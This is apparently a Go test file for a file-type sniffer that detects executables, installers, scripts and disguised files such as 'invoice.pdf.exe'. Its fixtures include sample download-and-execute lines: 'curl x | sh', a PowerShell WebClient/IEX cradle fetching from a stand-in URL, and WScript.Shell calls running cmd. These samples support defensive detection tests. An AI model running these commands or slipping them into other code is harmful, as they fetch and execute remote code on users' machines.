package content

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"testing"

	"github.com/streamx/streamx/manifest"
)

func pe() []byte {
	b := make([]byte, 256)
	copy(b, "MZ\x90\x00")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x80:], "PE\x00\x00")
	return b
}

func msi() []byte {
	b := make([]byte, 512*3)
	copy(b, oleMagic)
	binary.LittleEndian.PutUint16(b[oleHeaderSectorShift:], 9)
	binary.LittleEndian.PutUint32(b[oleFirstDirSector:], 1) // directory in sector 1, at 1024
	copy(b[1024+msiRootCLSIDOffset:], msiCLSID)
	return b
}

func zipOf(t *testing.T, names ...string) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, n := range names {
		w, err := zw.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte("x"))
	}
	zw.Close()
	return buf.Bytes()
}

func TestSniff(t *testing.T) {
	doc := msi()
	copy(doc[1024+msiRootCLSIDOffset:], make([]byte, 16)) // plain OLE (a .doc)
	for _, tc := range []struct {
		name string
		b    []byte
		want string
	}{
		{"pe", pe(), "PE"},
		{"mz without PE header", []byte("MZ this is not a program, just text starting with MZ........................"), ""},
		{"elf", []byte("\x7fELF\x02\x01\x01"), "ELF"},
		{"macho 64 le", []byte{0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1}, "Mach-O"},
		{"macho 32 be", []byte{0xfe, 0xed, 0xfa, 0xce, 0, 0, 0, 7}, "Mach-O"},
		{"macho fat", []byte{0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2, 0, 0, 0, 7}, "Mach-O fat"},
		{"java class", []byte{0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52}, ""},
		{"msi", msi(), "MSI"},
		{"ole document", doc, ""},
		{"zip with exe", zipOf(t, "readme.txt", "invoice.pdf.exe"), "zip"},
		{"zip with js", zipOf(t, "docs/payload.JS"), "zip"},
		{"zip of pictures", zipOf(t, "a.jpg", "b.png"), ""},
		{"shell", []byte("#!/bin/sh\ncurl x | sh\n"), "shell script"},
		{"powershell", []byte("$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://x/a'))"), "PowerShell"},
		{"jscript", []byte("var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"cmd\");"), "JScript"},
		{"vbscript", []byte("On Error Resume Next\nDim o\nSet o = CreateObject(\"WScript.Shell\")\no.Run \"calc\""), "VBScript"},
		{"browser js", []byte("if(window.ActiveXObject(d)){} document.write('x')"), ""},
		{"html", []byte("<!DOCTYPE html><html><script>var x=1</script></html>"), ""},
	} {
		k := Sniff(tc.b, bytes.NewReader(tc.b), int64(len(tc.b)))
		if k.Name != tc.want {
			t.Errorf("%s: got %q want %q", tc.name, k.Name, tc.want)
		}
	}
}

func TestCheck(t *testing.T) {
	b := pe()
	for _, tc := range []struct {
		name, declared, note string
	}{
		{"cat.jpg", "image/jpeg", NoteDisguised},
		{"report.pdf", "", NoteDisguised},
		{"setup.exe", "image/png", NoteDisguised},
		{"setup.exe", "application/octet-stream", NoteExecutable},
		{"download", "application/x-msdownload", NoteExecutable},
		{"", "", NoteExecutable},
	} {
		fd := Check(&manifest.Entry{Filename: tc.name, DeclaredMIMEType: tc.declared}, b, bytes.NewReader(b), int64(len(b)))
		if fd == nil || fd.Note != tc.note {
			t.Errorf("%s %s: %+v, want %s", tc.name, tc.declared, fd, tc.note)
		}
	}
	if fd := Check(&manifest.Entry{Filename: "a.txt"}, []byte("hello"), nil, 5); fd != nil {
		t.Errorf("text: %+v", fd)
	}
}
